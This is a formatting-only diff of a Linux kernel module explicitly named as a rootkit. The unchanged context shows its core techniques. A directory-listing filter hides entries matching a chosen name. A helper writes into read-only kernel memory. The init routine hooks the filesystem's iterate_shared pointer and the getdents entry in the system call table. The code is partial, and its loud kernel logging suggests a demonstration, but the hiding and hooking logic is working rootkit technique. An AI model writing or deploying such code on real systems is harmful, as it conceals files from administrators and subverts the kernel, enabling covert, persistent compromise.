@@ -36,17 +36,17 @@ static iterate_fn *old_iterate;
 static syscall_fn *old_getdents;
 
 struct filter {
-	struct dir_context ctx;		/* what the file system fills */
-	struct dir_context *real;	/* what userspace gets */
+	struct dir_context ctx; /* what the file system fills */
+	struct dir_context *real; /* what userspace gets */
 };
 
-static bool filter_entry(struct dir_context *ctx, const char *name, int len, loff_t pos,
-			 u64 ino, unsigned int type)
+static bool filter_entry(struct dir_context *ctx, const char *name, int len,
+			 loff_t pos, u64 ino, unsigned int type)
 {
 	struct filter *f = container_of(ctx, struct filter, ctx);
 
 	if (len == strlen(hide) && !memcmp(name, hide, len))
-		return true;	/* say nothing, go on */
+		return true; /* say nothing, go on */
 	return f->real->actor(f->real, name, len, pos, ino, type);
 }
 
@@ -90,7 +90,8 @@ static void load_cr0(unsigned long cr0)
 }
 
 /* a write to read-only memory, and a look at what became of it */
-static void overwrite(const char *what, unsigned long *where, unsigned long value)
+static void overwrite(const char *what, unsigned long *where,
+		      unsigned long value)
 {
 	unsigned long old = READ_ONCE(*where), now, flags, cr0;
 
@@ -104,7 +105,9 @@ static void overwrite(const char *what, unsigned long *where, unsigned long valu
 	now = READ_ONCE(*where);
 	/* shown on a console that is told to be quiet, too */
 	pr_crit("%s at %px: %lx -> %lx %s\n", what, where, old, value,
-		now == value ? "replaced" : now == old ? "unchanged" : "garbled");
+		now == value ? "replaced" :
+		now == old   ? "unchanged" :
+			       "garbled");
 }
 
 static int __init rootkit_init(void)
@@ -135,7 +138,8 @@ static int __init rootkit_init(void)
 
 	overwrite("iterate_shared", (unsigned long *)&fops->iterate_shared,
 		  (unsigned long)filtered_iterate);
-	overwrite("sys_call_table", (unsigned long *)table, (unsigned long)hooked_getdents);
+	overwrite("sys_call_table", (unsigned long *)table,
+		  (unsigned long)hooked_getdents);
 	return 0;
 }
 
